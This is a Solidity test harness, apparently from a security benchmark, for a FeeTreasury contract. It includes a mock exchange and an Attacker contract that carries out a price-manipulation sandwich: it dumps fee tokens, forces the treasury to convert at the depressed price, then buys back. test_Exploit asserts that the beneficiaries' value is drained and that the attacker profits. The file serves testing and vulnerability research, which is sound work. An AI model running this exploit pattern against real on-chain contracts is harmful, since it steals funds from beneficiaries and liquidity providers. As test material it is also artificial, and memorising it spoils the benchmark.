// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./FeeTreasury.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

// assay-canary-b4a7ac15-dfc4-4790-ae4d-d53b73ab8065

interface Vm {
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract Token is ERC20 {
    address private minter = msg.sender;

    constructor() ERC20("Token", "T") {}

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        _mint(to, amount);
    }
}

/// A constant product, five ten-thousandths for the exchange.
contract Exchange is IExchange {
    Token internal immutable one;
    Token internal immutable two;

    constructor(Token one_, Token two_) {
        (one, two) = (one_, two_);
    }

    function quote(IERC20 tokenIn, uint256 amount) public view returns (uint256) {
        Token tokenOut = address(tokenIn) == address(one) ? two : one;
        uint256 net = amount * 9995 / 10_000;
        return tokenOut.balanceOf(address(this)) * net / (tokenIn.balanceOf(address(this)) + net);
    }

    function swap(IERC20 tokenIn, uint256 amount, uint256 leastOut) external returns (uint256 out) {
        require(address(tokenIn) == address(one) || address(tokenIn) == address(two), "pair");
        out = quote(tokenIn, amount);
        require(out >= leastOut, "least");
        tokenIn.transferFrom(msg.sender, address(this), amount);
        (address(tokenIn) == address(one) ? two : one).transfer(msg.sender, out);
    }
}

/// Lowers the price of fees, has the treasury sell, and buys back.
contract Attacker {
    FeeTreasury internal treasury;
    Exchange internal exchange;
    Token internal fees;
    Token internal payout;

    constructor(FeeTreasury treasury_, Exchange exchange_, Token fees_, Token payout_) {
        (treasury, exchange, fees, payout) = (treasury_, exchange_, fees_, payout_);
        fees.approve(address(exchange_), type(uint256).max);
        payout.approve(address(exchange_), type(uint256).max);
    }

    function run() external {
        uint256 got = exchange.swap(fees, fees.balanceOf(address(this)), 0);
        treasury.convert();
        exchange.swap(payout, got, 0);
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant ALICE = address(0xA11CE);
    address internal constant BOB = address(0xB0B);

    Token internal fees;
    Token internal payout;
    Exchange internal exchange;
    FeeTreasury internal treasury;
    Attacker internal mallory;

    function setUp() public {
        vm.warp(1_700_000_000);
        fees = new Token();
        payout = new Token();
        exchange = new Exchange(fees, payout);
        fees.mint(address(exchange), 500_000e18);
        payout.mint(address(exchange), 1_000_000e18);
        treasury = new FeeTreasury(fees, payout, exchange, 2e18);
        treasury.setBeneficiary(ALICE, 3);
        treasury.setBeneficiary(BOB, 1);
        fees.mint(address(treasury), 2_000e18);
        vm.warp(block.timestamp + 8 days);
        mallory = new Attacker(treasury, exchange, fees, payout);
        fees.mint(address(mallory), 500_000e18);
    }

    function test_Regular() public {
        require(treasury.totalValue() == 4_000e18, "worth");
        uint256 out = treasury.convert();
        require(out > 3_940e18 && out < 3_980e18, "close to the reference rate");
        require(fees.balanceOf(address(this)) == 10e18, "reward");
        fees.mint(address(treasury), 1_000e18);
        (bool ok,) = address(treasury).call(abi.encodeCall(treasury.convert, ()));
        require(!ok, "once a week");
        require(treasury.claimable(ALICE) == out * 3 / 4, "three quarters");
        vm.prank(ALICE);
        treasury.claim();
        require(payout.balanceOf(ALICE) == out * 3 / 4 && treasury.claimable(ALICE) == 0, "claimed");
        vm.warp(block.timestamp + 7 days);
        uint256 more = treasury.convert();
        vm.prank(BOB);
        require(treasury.claim() == (out + more) / 4, "both weeks");
        (ok,) = address(treasury).call(abi.encodeCall(treasury.claim, ()));
        require(!ok, "not a beneficiary");
        (ok,) = address(treasury).call(abi.encodeCall(treasury.setBeneficiary, (address(this), 4)));
        require(!ok, "weights are final");

        treasury.setReferenceRate(3e18);
        require(treasury.referenceRate() == 3e18, "set");
        treasury.transferOwnership(ALICE);
        vm.prank(ALICE);
        treasury.renounceOwnership();
    }

    /// Worth of what the beneficiaries have coming.
    function forBeneficiaries() public view returns (uint256) {
        return treasury.totalValue();
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Rates and beneficiaries are the owner's, and conversions are of something.
    function test_RefusesStrangers() public {
        bytes memory why = abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, ALICE);
        refuses(ALICE, why);
        treasury.setReferenceRate(1);
        refuses(ALICE, why);
        treasury.setBeneficiary(ALICE, 9);
        refuses(ALICE, why);
        treasury.transferOwnership(ALICE);
        refuses(ALICE, why);
        treasury.renounceOwnership();
        treasury.convert();
        vm.warp(block.timestamp + 7 days);
        vm.expectRevert(FeeTreasury.NothingToConvert.selector);
        treasury.convert();
    }

    /// What nobody could claim is not converted.
    function test_RefusesWithoutBeneficiaries() public {
        FeeTreasury other = new FeeTreasury(fees, payout, exchange, 2e18);
        fees.mint(address(other), 1_000e18);
        vm.warp(block.timestamp + 7 days);
        vm.expectRevert(FeeTreasury.NothingToConvert.selector);
        other.convert();
    }

    function test_RefusesRates() public {
        vm.expectRevert(FeeTreasury.ZeroRate.selector);
        treasury.setReferenceRate(0);
        vm.expectRevert(FeeTreasury.ZeroRate.selector);
        new FeeTreasury(fees, payout, exchange, 0);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        uint256 before = fees.balanceOf(address(mallory));
        exploit();
        require(forBeneficiaries() < 1_100e18, "beneficiaries have their payout");
        require(fees.balanceOf(address(mallory)) > before + 900e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(treasury);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
